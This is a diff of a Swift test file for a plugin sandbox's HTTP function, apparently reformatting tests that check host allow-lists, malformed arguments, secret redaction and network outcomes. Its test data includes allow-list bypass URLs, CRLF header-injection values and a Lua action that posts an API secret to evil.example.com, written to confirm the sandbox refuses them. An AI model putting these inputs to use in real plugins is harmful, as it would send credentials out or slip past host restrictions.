@@ -33,13 +33,16 @@ struct HTTPFunctionTests {
         }
     }
 
-    @Test("refuses what the manifest does not list, and names the line to add", arguments: [
-        ("GET", "https://evil.example.com/v1/x", "evil.example.com"), ("GET", "https://api.example.com/admin", "/admin"),
-        ("GET", "https://api.example.com/v10/x", "/v10/"), ("DELETE", "https://api.example.com/v1/x", "DELETE"),
-        ("GET", "https://api.example.com:8443/v1/x", "8443"), ("GET", "http://api.example.com/v1/x", "api.example.com"),
-        ("GET", "https://api.example.com/v1/../admin", "dot segment"), ("GET", "https://api.example.com@evil.example.com/v1/", "user name"),
-        ("GET", "https://API.EXAMPLE.COM./v1/x", "DNS name"), ("GET", "https://api.example.com/v1/%2e%2e/admin", "%2e"),
-    ])
+    @Test(
+        "refuses what the manifest does not list, and names the line to add",
+        arguments: [
+            ("GET", "https://evil.example.com/v1/x", "evil.example.com"), ("GET", "https://api.example.com/admin", "/admin"),
+            ("GET", "https://api.example.com/v10/x", "/v10/"), ("DELETE", "https://api.example.com/v1/x", "DELETE"),
+            ("GET", "https://api.example.com:8443/v1/x", "8443"), ("GET", "http://api.example.com/v1/x", "api.example.com"),
+            ("GET", "https://api.example.com/v1/../admin", "dot segment"),
+            ("GET", "https://api.example.com@evil.example.com/v1/", "user name"),
+            ("GET", "https://API.EXAMPLE.COM./v1/x", "DNS name"), ("GET", "https://api.example.com/v1/%2e%2e/admin", "%2e"),
+        ])
     func allowList(method: String, url: String, named: String) async throws {
         try await with { rig, plugin, peer in
             let answer = try await rig.answer(plugin, "request", ["method": .string(method), "url": .string(url)])
@@ -60,17 +63,23 @@ struct HTTPFunctionTests {
         }
     }
 
-    @Test("refuses malformed arguments, each by name", arguments: [
-        (["url": 7], "url"), (["method": "get"], "method"), (["method": "CONNECT"], "method"), (["method": "OPTIONS"], "method"), (["urll": "x"], "urll"),
-        (["form": "x"], "form"), (["form": ["a": 1.5]], "form.a"), (["headers": ["Host": "evil"]], "Host"),
-        (["headers": ["content-length": "1"]], "content-length"), (["headers": ["Transfer-Encoding": "chunked"]], "Transfer-Encoding"),
-        (["headers": ["Connection": "close"]], "Connection"), (["headers": ["X-A": "1\r\nX-B: 2"]], "line break"),
-        (["headers": ["X-A\r\nX-B": "2"]], "header name"), (["headers": ["X A": "2"]], "header name"), (["headers": ["X": "é"]], "non-ASCII"),
-        (["headers": ["Idempotency-Key": "mine"]], "Idempotency-Key"), (["headers": ["idempotency-KEY": "mine"]], "idempotency-KEY"),
-        (["headers": ["X-A": "1", "x-a": "2"]], "twice"), (["form": [:], "json": [:]], "form and json"), (["timeout_ms": 0], "timeout_ms"),
-        (["timeout_ms": "1"], "timeout_ms"), (["form": ["card": "4242 4242 4242 4242"]], "card number"), (["json": ["cvc": "1"]], "json.cvc"),
-        (["body": "number=4242424242424242"], "card number"), (["headers": ["Proxy-Authorization": "x"]], "Proxy-Authorization"),
-    ] as [(Value, String)])
+    @Test(
+        "refuses malformed arguments, each by name",
+        arguments: [
+            (["url": 7], "url"), (["method": "get"], "method"), (["method": "CONNECT"], "method"), (["method": "OPTIONS"], "method"),
+            (["urll": "x"], "urll"),
+            (["form": "x"], "form"), (["form": ["a": 1.5]], "form.a"), (["headers": ["Host": "evil"]], "Host"),
+            (["headers": ["content-length": "1"]], "content-length"), (["headers": ["Transfer-Encoding": "chunked"]], "Transfer-Encoding"),
+            (["headers": ["Connection": "close"]], "Connection"), (["headers": ["X-A": "1\r\nX-B: 2"]], "line break"),
+            (["headers": ["X-A\r\nX-B": "2"]], "header name"), (["headers": ["X A": "2"]], "header name"),
+            (["headers": ["X": "é"]], "non-ASCII"),
+            (["headers": ["Idempotency-Key": "mine"]], "Idempotency-Key"), (["headers": ["idempotency-KEY": "mine"]], "idempotency-KEY"),
+            (["headers": ["X-A": "1", "x-a": "2"]], "twice"), (["form": [:], "json": [:]], "form and json"),
+            (["timeout_ms": 0], "timeout_ms"),
+            (["timeout_ms": "1"], "timeout_ms"), (["form": ["card": "4242 4242 4242 4242"]], "card number"),
+            (["json": ["cvc": "1"]], "json.cvc"),
+            (["body": "number=4242424242424242"], "card number"), (["headers": ["Proxy-Authorization": "x"]], "Proxy-Authorization"),
+        ] as [(Value, String)])
     func malformed(options: Value, named: String) async throws {
         try await with { rig, plugin, peer in
             var request = options
@@ -98,11 +107,14 @@ struct HTTPFunctionTests {
     func secrets() async throws {
         let scheme = Base64.encode(Array("user:\(Self.secret)".utf8))
         let actions = [
-            "bearer": "local r = ctx.http.post(with.url, {headers = {Authorization = ctx.http.bearer(ctx.secret.api_key)}}) return r.headers['x-echo'] .. r.body:sub(1, 150)",
-            "basic": "local r = ctx.http.post(with.url, {headers = {Authorization = ctx.http.basic('user', ctx.secret.api_key)}}) return r.headers['x-echo']",
+            "bearer":
+                "local r = ctx.http.post(with.url, {headers = {Authorization = ctx.http.bearer(ctx.secret.api_key)}}) return r.headers['x-echo'] .. r.body:sub(1, 150)",
+            "basic":
+                "local r = ctx.http.post(with.url, {headers = {Authorization = ctx.http.basic('user', ctx.secret.api_key)}}) return r.headers['x-echo']",
             "raw": "local r = ctx.http.post(with.url, {headers = {['X-Key'] = ctx.secret.api_key}}) return r.body:sub(-100)",
             "query": "local r = ctx.http.get(with.url, {query = {key = ctx.secret.api_key}}) return r.body:sub(1, 100)",
-            "form": "local r = ctx.http.post(with.url, {form = {a = {key = ctx.secret.api_key, n = 1, list = {'x', true}}}}) return r.body:sub(-100)",
+            "form":
+                "local r = ctx.http.post(with.url, {form = {a = {key = ctx.secret.api_key, n = 1, list = {'x', true}}}}) return r.body:sub(-100)",
             "json": "local r = ctx.http.post(with.url, {json = {key = ctx.secret.api_key}}) return r.body:sub(-100)",
             "body": "local r = ctx.http.post(with.url, {body = ctx.secret.api_key}) return r.body:sub(-100)",
         ]
@@ -130,15 +142,20 @@ struct HTTPFunctionTests {
     @Test("keeps secrets out of errors, logs and the audit trail")
     func leaks() async throws {
         let actions = [
-            "log": "ctx.log.info('key is ' .. with.key, {note = with.key, api_key = 'other'}) return 'x'", "raise": "error('key is ' .. with.key)",
+            "log": "ctx.log.info('key is ' .. with.key, {note = with.key, api_key = 'other'}) return 'x'",
+            "raise": "error('key is ' .. with.key)",
             "hold": "ctx.log.info('handle ' .. tostring(ctx.secret.api_key)) return tostring(ctx.secret.api_key)",
-            "fail": "return {ok = false, error = {code = 'provider_error', message = 'key ' .. with.key, retryable = false, outcome = 'rejected'}}",
+            "fail":
+                "return {ok = false, error = {code = 'provider_error', message = 'key ' .. with.key, retryable = false, outcome = 'rejected'}}",
             "concat": "return 'x' .. ctx.secret.api_key", "store": "ctx.storage.set('k', ctx.secret.api_key) return 'x'",
             "evil": "local r = ctx.http.post('https://evil.example.com/', {body = ctx.secret.api_key}) return 'x'",
         ]
         // What a plugin could have learnt from a provider that shows it in pieces.
         let key: Value = ["key": .string(Self.secret)]
-        try await with(actions, capabilities: ["storage": ["max_bytes": 1000], "http": [["host": "api.example.com", "methods": ["POST"], "path_prefix": "/"]]]) { rig, plugin, peer in
+        try await with(
+            actions,
+            capabilities: ["storage": ["max_bytes": 1000], "http": [["host": "api.example.com", "methods": ["POST"], "path_prefix": "/"]]]
+        ) { rig, plugin, peer in
             for name in actions.keys.sorted() {
                 let report = try await rig.call(plugin, name, key)
                 let everything = "\(report.result) \(report.log) \(report.failure?.message ?? "")"
@@ -153,7 +170,9 @@ struct HTTPFunctionTests {
 
     @Test("adds the idempotency header itself, numbered by the order of mutating calls")
     func idempotency() async throws {
-        let actions = ["three": "ctx.http.post(with.url) ctx.http.get(with.url) ctx.http.request{method = 'PUT', url = with.url} return 'x'"]
+        let actions = [
+            "three": "ctx.http.post(with.url) ctx.http.get(with.url) ctx.http.request{method = 'PUT', url = with.url} return 'x'"
+        ]
         try await with(actions) { rig, plugin, peer in
             for _ in 0..<2 { _ = try await rig.answer(plugin, "three", ["url": LoopbackPeer.url("/echo")], key: "k123") }
 
@@ -166,10 +185,13 @@ struct HTTPFunctionTests {
         }
     }
 
-    @Test("answers what the network did, with what became of the request", arguments: [
-        ("/hang", "timeout unknown"), ("/close", "provider_unavailable unknown"), ("/huge", "limit_exceeded unknown"), ("/redirect", "302"),
-        ("/declined", "402 {\"error\""),
-    ])
+    @Test(
+        "answers what the network did, with what became of the request",
+        arguments: [
+            ("/hang", "timeout unknown"), ("/close", "provider_unavailable unknown"), ("/huge", "limit_exceeded unknown"),
+            ("/redirect", "302"),
+            ("/declined", "402 {\"error\""),
+        ])
     func outcomes(path: String, expected: String) async throws {
         try await with { rig, plugin, peer in
             let answer = try await rig.answer(
@@ -193,7 +215,9 @@ struct HTTPFunctionTests {
             let report = try await rig.call(plugin, "request", ["method": "POST", "url": LoopbackPeer.url("/echo")])
 
             let answer = try report.result.get()["provider_message_ids"]?[0]?.stringValue
-            #expect(answer?.hasPrefix(place == "refused" ? "provider_unavailable not_sent" : "network_denied not_sent") == true, "\(answer ?? "")")
+            #expect(
+                answer?.hasPrefix(place == "refused" ? "provider_unavailable not_sent" : "network_denied not_sent") == true,
+                "\(answer ?? "")")
             #expect(!report.wire.mutatingBytesLeft)
         }
     }
